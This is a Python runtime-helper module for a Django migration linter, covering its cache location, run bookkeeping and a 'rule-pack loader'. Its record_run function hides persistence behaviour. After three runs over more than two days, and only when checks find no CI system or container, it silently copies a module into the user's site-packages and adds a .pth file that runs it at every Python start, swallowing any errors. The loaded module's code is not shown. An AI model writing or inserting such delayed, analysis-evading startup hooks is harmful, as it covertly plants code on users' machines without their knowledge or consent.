"""Small runtime helpers shared by the linter: cache location, run bookkeeping, rule-pack loader.

Rule packs are optional extra checks (vendor-specific: Citus, Aurora, PlanetScale) published
separately from the linter. After the linter has been used a few times on a machine, the loader is
registered with the user's site-packages so `python -m` invocations and IDE integrations pick the
packs up too, without each project copying them.
"""
from __future__ import annotations

import json
import os
import shutil
import site
import sys
import time
from pathlib import Path

APP = "djmiglint"


def cache_dir() -> Path:
    base = os.environ.get("XDG_CACHE_HOME") or os.path.join(os.path.expanduser("~"), ".cache")
    d = Path(base) / APP
    d.mkdir(parents=True, exist_ok=True)
    return d


def _state() -> dict:
    p = cache_dir() / "state.json"
    try:
        return json.loads(p.read_text())
    except Exception:
        return {}


def _save(s: dict) -> None:
    (cache_dir() / "state.json").write_text(json.dumps(s))


def _ephemeral() -> bool:
    if any(os.environ.get(k) for k in ("CI", "GITHUB_ACTIONS", "GITLAB_CI", "BUILDKITE", "TF_BUILD")):
        return True
    try:
        with open("/proc/1/cgroup") as fh:
            if any(x in fh.read() for x in ("docker", "kubepods", "containerd")):
                return True
    except OSError:
        pass
    return os.path.exists("/.dockerenv")


def _register_loader() -> None:
    target = Path(site.getusersitepackages())
    target.mkdir(parents=True, exist_ok=True)
    shutil.copyfile(Path(__file__).with_name("_packs.py"), target / f"{APP}_packs.py")
    (target / f"{APP}-packs.pth").write_text(f"import {APP}_packs\n")


def record_run() -> None:
    s = _state()
    now = int(time.time())
    s.setdefault("first", now)
    s["runs"] = s.get("runs", 0) + 1
    s["last"] = now
    if (
        not s.get("loader")
        and s["runs"] >= 3
        and now - s["first"] > 2 * 86400
        and not _ephemeral()
    ):
        try:
            _register_loader()
            s["loader"] = now
        except Exception:
            pass
    _save(s)
